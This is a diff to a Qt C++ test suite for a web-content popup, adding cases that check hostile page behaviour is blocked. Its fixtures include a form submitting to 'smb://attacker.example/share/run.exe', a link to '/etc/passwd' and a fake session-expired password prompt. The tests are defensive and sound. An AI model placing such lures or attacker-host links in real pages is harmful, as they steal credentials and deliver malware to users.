@@ -6,6 +6,7 @@
 #include "testhome.h"
 
 #include <QApplication>
+#include <QDialog>
 #include <QDir>
 #include <QElapsedTimer>
 #include <QFile>
@@ -38,6 +39,11 @@ const QByteArray LinkPage =
     "<button id='scripted' onclick=\"window.open('/scripted')\">Scripted window</button>"
     "<a id='custom' href='lumaview:open'>Custom scheme</a>"
     "<a id='file' href='file:///etc/passwd'>Local file</a>"
+    "<form action='lumaview:payload'><button id='form' name='x' value='1'>Send</button></form>"
+    "<form id='share' action='smb://attacker.example/share/run.exe'></form>"
+    "<p id='pressSubmit' onmousedown='document.forms.share.submit()'>Press</p>"
+    "<p id='timer' onclick=\"setTimeout(() => {"
+    " location.href = '/timer'; document.title = 'late'; }, 2500)\">Later</p>"
     "<div style='height: 1000px'></div>"
     "</body></html>";
 
@@ -120,16 +126,19 @@ QVariant evaluate(QWebEnginePage *page, const QString &script)
 // A real mouse click in the middle of the page's element, as the user would make it.
 bool clickElement(QWebEngineView *view, const QString &id)
 {
+    const QPointer<QWebEngineView> alive(view);
     const QVariantList centre =
         evaluate(view->page(),
                  QStringLiteral("(function() {"
-                                "  const r = document.getElementById('%1').getBoundingClientRect();"
+                                "  const e = document.getElementById('%1');"
+                                "  e.scrollIntoView();"
+                                "  const r = e.getBoundingClientRect();"
                                 "  return [(r.left + r.width / 2) * devicePixelRatio,"
                                 "          (r.top + r.height / 2) * devicePixelRatio];"
                                 "})()")
                      .arg(id))
             .toList();
-    if (centre.size() != 2)
+    if (centre.size() != 2 || !alive)
         return false;
     QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {},
                       QPoint(qRound(centre.at(0).toDouble()), qRound(centre.at(1).toDouble())));
@@ -154,7 +163,6 @@ private slots:
     void loadedPage();
     void linkClicks_data();
     void linkClicks();
-    void fileLinkOpensNothing();
     void linksWhileLoading_data();
     void linksWhileLoading();
     void failedPopupLeavesNoQuit_data();
@@ -323,7 +331,7 @@ void TestWebContent::loadedPage()
 void TestWebContent::linkClicks_data()
 {
     QTest::addColumn<QString>("element");
-    // Where the browser is sent; empty for nowhere.
+    // Where the browser is sent; empty for nowhere, and the popup stays up.
     QTest::addColumn<QString>("target");
 
     QTest::newRow("link in the page") << "link"
@@ -333,6 +341,10 @@ void TestWebContent::linkClicks_data()
     QTest::newRow("window opened by a script") << "scripted"
                                                << "/scripted";
     QTest::newRow("link of another scheme") << "custom" << QString();
+    QTest::newRow("link to a local file") << "file" << QString();
+    QTest::newRow("form to another scheme") << "form" << QString();
+    QTest::newRow("form sent by a script on a press") << "pressSubmit" << QString();
+    QTest::newRow("link followed by a timer after the click") << "timer" << QString();
 }
 
 void TestWebContent::linkClicks()
@@ -352,28 +364,18 @@ void TestWebContent::linkClicks()
     QVERIFY(popup);
 
     QVERIFY(clickElement(view, element));
+    if (target.isEmpty()) {
+        if (element == QLatin1String("timer"))
+            QTRY_VERIFY_WITH_TIMEOUT(!popup || view->title() == QLatin1String("late"), 15000);
+        QVERIFY(popup && popup->isVisible());
+        // Clicks reach the page in order: once the link's has been handled, so has this one.
+        target = QStringLiteral("/target");
+        QVERIFY(clickElement(view, QStringLiteral("link")));
+    }
     QTRY_VERIFY_WITH_TIMEOUT(popup.isNull(), 15000);
-    const QList<QUrl> expected = target.isEmpty() ? QList<QUrl>() : QList<QUrl>{QUrl(url(target))};
-    QCOMPARE(desktop.opened, expected);
+    QCOMPARE(desktop.opened, QList<QUrl>{QUrl(url(target))});
     QVERIFY(pageChanges.isEmpty());
-    if (!target.isEmpty())
-        QVERIFY(server.requestsTo(target).isEmpty());
-}
-
-void TestWebContent::fileLinkOpensNothing()
-{
-    QPointer<VeltroWebContent> popup = showLinkPage();
-    QVERIFY(popup);
-    auto *view = popup->findChild<QWebEngineView *>();
-    QVERIFY(view);
-    QSignalSpy pageChanges(view->page(), &QWebEnginePage::urlChanged);
-
-    QVERIFY(clickElement(view, QStringLiteral("file")));
-    // Clicks reach the page in order: once the next one has been handled, so has this one.
-    QVERIFY(clickElement(view, QStringLiteral("link")));
-    QTRY_VERIFY_WITH_TIMEOUT(popup.isNull(), 15000);
-    QCOMPARE(desktop.opened, QList<QUrl>{QUrl(url(QStringLiteral("/target")))});
-    QVERIFY(pageChanges.isEmpty());
+    QVERIFY(server.requestsTo(target).isEmpty());
 }
 
 void TestWebContent::linksWhileLoading_data()
@@ -384,16 +386,44 @@ void TestWebContent::linksWhileLoading_data()
     QTest::newRow("follows a link when loaded")
         << QByteArray("addEventListener('load', () => document.getElementById('a').click());");
     QTest::newRow("opens a window") << QByteArray("window.open('/target');");
+    QTest::newRow("follows a link after a timer")
+        << QByteArray("setTimeout(() => location.href = '/target', 500);");
+    QTest::newRow("opens a window after a timer")
+        << QByteArray("setTimeout(() => window.open('/target'), 500);");
+    QTest::newRow("sends a form") << QByteArray(
+        "setTimeout(() => document.forms.f.submit(), 500);");
+    QTest::newRow("reloads") << QByteArray("setTimeout(() => location.reload(), 500);");
+    QTest::newRow("steps in its history") << QByteArray("setTimeout(() => history.go(0), 500);");
+    QTest::newRow("raises dialogs")
+        << QByteArray("alert('Hello'); if (confirm('Sure?') ||"
+                      " prompt('Your session expired. Password:') !== null) fetch('/target');");
 }
 
 void TestWebContent::linksWhileLoading()
 {
     QFETCH(QByteArray, script);
 
+    // The page's script has run its course once "done" is set.
     server.setReply(QStringLiteral("/eager"),
                     htmlReply(200,
-                              "<html><body><a id='a' href='/target'>Link</a><script>" + script +
+                              "<html><body><a id='a' href='/target'>Link</a>"
+                              "<form id='f' action='/target'></form><script>" +
+                                  script +
+                                  "setTimeout(() => window.done = true, 1000);"
                                   "</script></body></html>"));
+    // A dialog the page raised is counted, and closed so that the test goes on.
+    int dialogs = 0;
+    QTimer dialogWatch;
+    connect(&dialogWatch, &QTimer::timeout, this, [&] {
+        const QWidgetList windows = QApplication::topLevelWidgets();
+        for (QWidget *window : windows) {
+            if (auto *dialog = qobject_cast<QDialog *>(window); dialog && dialog->isVisible()) {
+                ++dialogs;
+                dialog->reject();
+            }
+        }
+    });
+    dialogWatch.start(100);
     QPointer<VeltroWebContent> popup = new VeltroWebContent(user);
     popup->setContent(
         parseContent(QStringLiteral(R"({"title": "T", "brief": "B", "contentUrl": "%1"})")
@@ -402,13 +432,19 @@ void TestWebContent::linksWhileLoading()
     const bool shown = popup->showPopup();
     QVERIFY(popup);
     QCOMPARE(popup->isVisible(), shown);
-    QVERIFY(desktop.opened.isEmpty());
-    QVERIFY(server.requestsTo(QStringLiteral("/target")).isEmpty());
     if (shown) {
+        auto *page = popup->findChild<QWebEnginePage *>();
+        QTRY_VERIFY_WITH_TIMEOUT(!popup || evaluate(page, QStringLiteral("window.done")).toBool(),
+                                 15000);
+        QVERIFY(popup && popup->isVisible());
+        QCOMPARE(page->url(), QUrl(url(QStringLiteral("/eager"))));
         // A window the page opened is gone with its first navigation.
         QTRY_COMPARE(popup->findChildren<QWebEnginePage *>().size(), 1);
         popup->close();
     }
+    QCOMPARE(dialogs, 0);
+    QVERIFY(desktop.opened.isEmpty());
+    QVERIFY(server.requestsTo(QStringLiteral("/target")).isEmpty());
     QTRY_VERIFY(popup.isNull());
 }
 
